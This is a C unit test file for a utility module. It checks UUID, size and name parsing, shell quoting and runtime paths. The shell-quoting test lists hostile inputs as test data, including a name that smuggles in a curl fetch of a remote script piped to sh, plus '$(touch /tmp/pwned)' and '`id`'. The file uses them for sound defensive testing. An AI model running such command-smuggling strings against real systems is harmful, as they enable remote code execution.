/* Unit tests of common/rma-util.c: UUIDs, sizes, names, shell quoting. */
#include <errno.h>
#include <glib.h>
#include <string.h>

#include "rma-paths.h"
#include "rma-util.h"

static void test_uuid(void) {
        char out[RMA_UUID_STRING_LEN + 1];

        g_assert_cmpint(rma_uuid_canonicalize("4DEA22B3-1D52-D8F3-2516-782E98AB3FA0", out), ==, 0);
        g_assert_cmpstr(out, ==, "4dea22b3-1d52-d8f3-2516-782e98ab3fa0");
        g_assert_cmpint(rma_uuid_canonicalize("4dea22b3-1d52-d8f3-2516-782e98ab3fa", out), ==, -EINVAL);
        g_assert_cmpint(rma_uuid_canonicalize("4dea22b3-1d52-d8f3-2516-782e98ab3fa0x", out), ==, -EINVAL);
        g_assert_cmpint(rma_uuid_canonicalize("not-a-uuid", out), ==, -EINVAL);
        g_assert_cmpint(rma_uuid_canonicalize("4dea22b3-1d52-d8f3-2516-782e98ab3fg0", out), ==, -EINVAL);
        g_assert_cmpint(rma_uuid_canonicalize("4dea22b31-d52-d8f3-2516-782e98ab3fa0", out), ==, -EINVAL);
        g_assert_cmpint(rma_uuid_canonicalize("4dea22b3-1d52-d8f3-2516-782e98ab3fa\n", out), ==, -EINVAL);
        g_assert_cmpint(rma_uuid_canonicalize("", out), ==, -EINVAL);
        g_assert_cmpint(rma_uuid_canonicalize(NULL, out), ==, -EINVAL);
}

static void test_size(void) {
        uint64_t v;

        g_assert_cmpint(rma_parse_size("268435456", &v), ==, 0);
        g_assert_cmpuint(v, ==, 268435456);
        g_assert_cmpint(rma_parse_size("256M", &v), ==, 0);
        g_assert_cmpuint(v, ==, 256u << 20);
        g_assert_cmpint(rma_parse_size("256MiB", &v), ==, 0);
        g_assert_cmpuint(v, ==, 256u << 20);
        g_assert_cmpint(rma_parse_size("1g", &v), ==, 0);
        g_assert_cmpuint(v, ==, 1u << 30);
        g_assert_cmpint(rma_parse_size("64K", &v), ==, 0);
        g_assert_cmpuint(v, ==, 65536);
        g_assert_cmpint(rma_parse_size("", &v), ==, -EINVAL);
        g_assert_cmpint(rma_parse_size("M", &v), ==, -EINVAL);
        g_assert_cmpint(rma_parse_size("-1", &v), ==, -EINVAL);
        g_assert_cmpint(rma_parse_size("12X", &v), ==, -EINVAL);
        g_assert_cmpint(rma_parse_size("12MBx", &v), ==, -EINVAL);
        g_assert_cmpint(rma_parse_size("99999999999999999999", &v), ==, -ERANGE);
        g_assert_cmpint(rma_parse_size("99999999999T", &v), ==, -ERANGE);
}

static void test_names(void) {
        g_autofree char *longname = g_strnfill(RMA_NAME_MAX + 1, 'a');

        g_assert_true(rma_name_is_valid("acme"));
        g_assert_true(rma_name_is_valid("my vm.01_ü"));
        g_assert_false(rma_name_is_valid(""));
        g_assert_false(rma_name_is_valid(NULL));
        g_assert_false(rma_name_is_valid("a\nb"));
        g_assert_false(rma_name_is_valid("\xff\xfe"));
        g_assert_false(rma_name_is_valid(longname));
        longname[RMA_NAME_MAX] = '\0';
        g_assert_true(rma_name_is_valid(longname));
}

/* What sh makes of QUOTED: "N:FIRST", the number of words and the first. */
static char *sh_words(const char *quoted) {
        g_autofree char *script = g_strdup_printf("set -- %s; printf '%%s:%%s' \"$#\" \"$1\"", quoted);
        const char *argv[] = { "/bin/sh", "-c", script, NULL };
        char *env[] = { "PATH=/nonexistent", NULL };
        char *out = NULL;
        gint status;

        g_assert_true(g_spawn_sync(NULL, (char **) argv, env, G_SPAWN_DEFAULT, NULL, NULL, &out, NULL, &status, NULL));
        g_assert_true(g_spawn_check_wait_status(status, NULL));
        return out;
}

/* A name an attacker chose, pasted from a message into a shell, is one argument. */
static void test_shell_quote(void) {
        static const char *const hostile[] = {
                "rma.small;curl${IFS}-s${IFS}http://203.0.113.9/x|sh", "it's", "$(touch /tmp/pwned)", "`id`",
                "a b", "x&&y", "new\nline", "*", "~root", "'", "''", "\\", "\"", "#c", "a\tb", "dom\xc3\xbc",
        };
        struct { const char *in, *out; } plain[] = {
                { "/run/rma-broker", "/run/rma-broker" }, { "rma.small", "rma.small" },
                { "", "''" }, { "a b", "'a b'" }, { "it's", "'it'\\''s'" },
        };

        for (size_t i = 0; i < G_N_ELEMENTS(plain); i++) {
                g_autofree char *q = rma_shell_quote(plain[i].in);
                g_assert_cmpstr(q, ==, plain[i].out);
        }
        for (size_t i = 0; i < G_N_ELEMENTS(hostile); i++) {
                g_autofree char *q = rma_shell_quote(hostile[i]);
                g_autofree char *words = sh_words(q), *want = g_strconcat("1:", hostile[i], NULL);
                g_assert_cmpstr(words, ==, want);
        }
}

/* The runtime files beside broker.sock, as the fronts and the client library both find them. */
static void test_runtime_path(void) {
        static const struct {
                const char *socket, *name, *leaf, *path;
        } cases[] = {
                { NULL, "domains", "U", "/run/rma-broker/domains/U" },
                { "/tmp/x/run/broker.sock", "domains", NULL, "/tmp/x/run/domains" },
                { "/tmp/x/run//broker.sock", "broker-priv.sock", NULL, "/tmp/x/run/broker-priv.sock" },
                { "/broker.sock", "domains", "U", "/domains/U" },
                { "broker.sock", "domains", "U", "./domains/U" },
        };
        char small[8];

        for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
                char path[256];
                if (cases[i].socket)
                        g_setenv("RMA_BROKER_SOCKET", cases[i].socket, TRUE);
                else
                        g_unsetenv("RMA_BROKER_SOCKET");
                g_assert_cmpuint(rma_runtime_path(path, sizeof(path), cases[i].name, cases[i].leaf), ==,
                                 strlen(cases[i].path));
                g_assert_cmpstr(path, ==, cases[i].path);
        }
        /* Too small: cut, and the length says so. */
        g_assert_cmpuint(rma_runtime_path(small, sizeof(small), "domains", NULL), >=, sizeof(small));
        g_unsetenv("RMA_BROKER_SOCKET");
}

int main(int argc, char *argv[]) {
        g_test_init(&argc, &argv, NULL);
        g_test_add_func("/util/uuid", test_uuid);
        g_test_add_func("/util/runtime-path", test_runtime_path);
        g_test_add_func("/util/size", test_size);
        g_test_add_func("/util/names", test_names);
        g_test_add_func("/util/shell-quote", test_shell_quote);
        return g_test_run();
}
